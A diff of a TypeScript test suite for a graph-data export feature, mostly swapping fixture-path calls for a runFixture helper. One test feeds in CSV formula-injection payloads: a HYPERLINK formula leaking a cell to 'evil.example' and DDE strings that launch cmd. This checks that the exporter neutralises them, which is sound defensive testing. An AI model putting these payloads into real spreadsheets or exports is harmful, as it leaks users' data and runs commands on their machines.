@@ -2,6 +2,7 @@ import { SaxesParser } from 'saxes';
 import { parse as parseCsv } from 'csv-parse/sync';
 import yauzl from 'yauzl';
 import { startTestService, TestService } from '../support/testService';
+import { runFixture } from '../support/cypherFixture';
 
 // Texts a careless exporter breaks: separators and quotes for CSV, markup characters for XML,
 // a control character XML 1.0 cannot carry at all (it must be dropped, not break the file).
@@ -17,13 +18,13 @@ let t: TestService;
 
 beforeAll(async () => {
   t = await startTestService();
-  await t.db.write('../test/cypher/delete-test-entities');
-  await t.db.write('../test/cypher/create-export-test-entity', TRICKY);
+  await runFixture(t.db, 'delete-test-entities');
+  await runFixture(t.db, 'create-export-test-entity', TRICKY);
 });
 
 afterAll(async () => {
-  await t.db.write('../test/cypher/delete-test-entities');
-  await t.db.write('../test/cypher/delete-generated');
+  await runFixture(t.db, 'delete-test-entities');
+  await runFixture(t.db, 'delete-generated');
   await t.stop();
 });
 
@@ -39,7 +40,7 @@ async function download(query: string): Promise<Download> {
 }
 
 async function graphCounts(): Promise<{ nodes: number; relationships: number }> {
-  const [row] = await t.db.read('../test/cypher/graph-counts');
+  const [row] = await runFixture(t.db, 'graph-counts');
   return { nodes: Number(row.nodes), relationships: Number(row.relationships) };
 }
 
@@ -209,7 +210,7 @@ test('Export: CSV cells starting like a formula (= + - @ tab CR) come out behind
   const starts = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
   const partners = starts.map((text, i) => ({ id: `partner:test-formula-${i}`, name: text, aliases: [text, 'plain'], description: text, excerpt: text }));
   // afterAll removes them with the other test entities.
-  await t.db.write('../test/cypher/create-test-partners', { partners });
+  await runFixture(t.db, 'create-test-partners', { partners });
   const files = await unzip((await download('?format=csv')).body);
   const nodes = parseCsv(files['nodes.csv'], { columns: true }) as Record<string, string>[];
   const relationships = parseCsv(files['relationships.csv'], { columns: true }) as Record<string, string>[];
@@ -271,8 +272,8 @@ test('Export: bad format, depth out of range and unknown ids are refused with a 
 
 describe('with a generated graph of about 55,000 relationships', () => {
   beforeAll(async () => {
-    await t.db.write('../test/cypher/delete-generated');
-    await t.db.write('../test/cypher/generate-graph', { regions: 2, countries: 20, cities: 6000, themes: 10 });
+    await runFixture(t.db, 'delete-generated');
+    await runFixture(t.db, 'generate-graph', { regions: 2, countries: 20, cities: 6000, themes: 10 });
   });
 
   test('Export: a neighbourhood past 5,000 entities keeps the nearest 5,000 and says it was truncated', async () => {
